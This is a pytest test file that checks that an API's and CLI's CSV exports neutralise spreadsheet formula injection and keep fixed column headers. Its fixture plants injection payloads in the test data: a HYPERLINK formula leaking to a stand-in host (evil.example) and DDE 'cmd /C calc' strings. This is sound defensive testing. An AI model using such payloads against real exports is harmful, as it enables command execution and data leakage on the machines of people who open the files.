"""Every CSV algokg writes, on a store whose texts are spreadsheet formulas: no cell a spreadsheet would evaluate,
and REST CSV columns fixed by the view (not by the rows of the page). Real server, real store, real CLI."""

import csv
import io
import re
from collections.abc import Callable
from pathlib import Path

import httpx
import pytest
from click.testing import CliRunner

from loader.cli import cli
from loader.store import EXAMPLE_DATASET, build_store
from sparql_api.rest import models, tables
from tests.server.conftest import Server

# The example dataset with its titles and organisation name replaced by what an attacker would register.
HOSTILE = {
    "Signalering bijstandsaanvragen (voorbeeld)": '=HYPERLINK(\\"https://evil.example/?leak\\",\\"klik\\")',
    "Gemeente Noorderhaaks": "@SUM(1+1)*cmd|' /C calc'!A0",
    "Route-optimalisatie afvalinzameling (voorbeeld)": "-2+3+cmd|' /C calc'!A0",
    "Voorspelling parkeerdruk (voorbeeld)": "\\t=1+1",
}
EVALUATED = ("=", "+", "-", "@", "\t", "\r", "\0")  # what spreadsheets read as the start of a formula
PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")
ORGANISATION = "https://w3id.org/algokg/id/example/noorderhaaks"


@pytest.fixture(scope="module")
def hostile_store(tmp_path_factory: pytest.TempPathFactory) -> Path:
    text = EXAMPLE_DATASET.read_text(encoding="utf-8")
    for plain, formula in HOSTILE.items():
        assert plain in text
        text = text.replace(plain, formula)
    folder = tmp_path_factory.mktemp("hostile")
    dataset = folder / "hostile-register.ttl"
    dataset.write_text(text, encoding="utf-8")
    store_dir = folder / "store"
    build_store(store_dir, datasets=[("example", dataset)])
    return store_dir


@pytest.fixture(scope="module")
def api(running_server: Callable[..., Server], hostile_store: Path) -> str:
    return running_server(hostile_store).base


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def assert_safe(text: str, where: str) -> None:
    """No cell starts with a formula character unless it is a plain number."""
    evaluated = [cell for cell in _cells(text) if cell.startswith(EVALUATED) and not PLAIN_NUMBER.fullmatch(cell)]
    assert evaluated == [], f"{where}: cells a spreadsheet would evaluate: {evaluated}"


def _get_csv(api: str, path: str, **params: str) -> str:
    response = httpx.get(f"{api}{path}", params={**params, "format": "csv"}, timeout=60)
    assert response.status_code == 200, (path, response.text)
    assert response.headers["content-type"].startswith("text/csv")
    return response.text


# Each REST CSV, and a hostile text that must appear in it, written as text (leading ').
REST_CSV = [
    ("/api/algorithms", {}, "'=HYPERLINK("),
    ("/api/algorithms", {"lang": "en"}, "'-2+3+cmd"),
    ("/api/organisations", {}, "'@SUM(1+1)"),
    ("/api/organisation", {"id": ORGANISATION}, "'\t=1+1"),
    ("/api/law", {"id": "BWBR0005537"}, "'=HYPERLINK("),
    ("/api/assessments", {}, "'=HYPERLINK("),
    ("/api/laws", {}, None),
    ("/api/articles", {}, None),
    ("/api/aiact-categories", {}, None),
    ("/api/values", {}, None),
]


@pytest.mark.parametrize(("path", "params", "shown"), REST_CSV)
def test_rest_csv_writes_formulas_as_text(api: str, path: str, params: dict[str, str], shown: str | None) -> None:
    text = _get_csv(api, path, **params)
    assert_safe(text, path)
    if shown:
        assert any(cell.startswith(shown) for cell in _cells(text)), f"{path}: the hostile value is not in it as text"


def test_report_csv_writes_formulas_as_text(api: str) -> None:
    response = httpx.get(f"{api}/api/reports/assessment-gaps", headers={"Accept": "text/csv"}, timeout=60)
    assert response.status_code == 200
    assert_safe(response.text, "/api/reports/assessment-gaps")
    assert any(cell.startswith("'@SUM(1+1)") for cell in _cells(response.text))


def test_csv_dump_writes_formulas_as_text(api: str) -> None:
    text = httpx.get(f"{api}/dumps/algorithms.csv", timeout=60).text
    assert_safe(text, "/dumps/algorithms.csv")
    cells = _cells(text)
    assert {'\'=HYPERLINK("https://evil.example/?leak","klik")', "'@SUM(1+1)*cmd|' /C calc'!A0"} <= set(cells)
    assert "00000001" in cells and "2024-03" in cells  # identifiers and dates as they are


def test_cli_export_and_report_write_formulas_as_text(hostile_store: Path) -> None:
    runner = CliRunner()
    exported = runner.invoke(cli, ["export", "--store", str(hostile_store), "--format", "csv"])
    assert exported.exit_code == 0, exported.output
    assert_safe(exported.output, "algokg export --format csv")
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in _cells(exported.output)
    reported = runner.invoke(cli, ["report", "--store", str(hostile_store), "--format", "csv"])
    assert reported.exit_code == 0, reported.output
    assert_safe(reported.output, "algokg report --format csv")
    assert any(cell.startswith("'=HYPERLINK(") for cell in _cells(reported.output))


def test_sparql_csv_results_stay_standard(api: str) -> None:
    """SPARQL 1.1 CSV results are values as they are (the standard format; not a spreadsheet export)."""
    query = 'SELECT ?title WHERE { ?a <http://purl.org/dc/terms/title> ?title FILTER(STRSTARTS(?title, "=")) }'
    response = httpx.get(f"{api}/sparql", params={"query": query}, headers={"Accept": "text/csv"})
    assert response.status_code == 200
    assert '=HYPERLINK("https://evil.example/?leak","klik")' in _cells(response.text)


# -- fixed columns -----------------------------------------------------------------------------------------------

COLLECTIONS = [
    ("/api/algorithms", models.AlgorithmRow),  # a selection's download: the summary, articles, assessment statuses
    ("/api/organisations", models.OrganisationSummary),
    ("/api/laws", models.LawSummary),
    ("/api/articles", models.ArticleSummary),
    ("/api/assessments", models.AssessmentSummary),
    ("/api/aiact-categories", models.CategorySummary),
    ("/api/values", models.CategorySummary),
]


@pytest.mark.parametrize(("path", "model"), COLLECTIONS)
def test_rest_csv_columns_are_the_same_on_every_page(api: str, path: str, model: type) -> None:
    """One item per page: the first pages (rows with and without values in a column), the last one and one past
    the end (an empty page) all have the header the view declares."""
    expected = tables.columns(model)
    total = int(httpx.get(f"{api}{path}", params={"size": "1"}).json()["totalItems"])
    headers = []
    for number in sorted({*range(1, min(total, 6) + 1), total, total + 1}):
        text = _get_csv(api, path, size="1", page=str(number))
        headers.append(next(csv.reader(io.StringIO(text))))
    assert all(header == expected for header in headers), (path, headers)


def test_supervisor_view_csv_columns_are_declared(api: str) -> None:
    law = _get_csv(api, "/api/law", id="BWBR0005537")
    assert next(csv.reader(io.StringIO(law))) == tables.columns(models.ReliantAlgorithm)
    organisation = _get_csv(api, "/api/organisation", id=ORGANISATION)
    assert next(csv.reader(io.StringIO(organisation))) == tables.columns(models.Completeness)
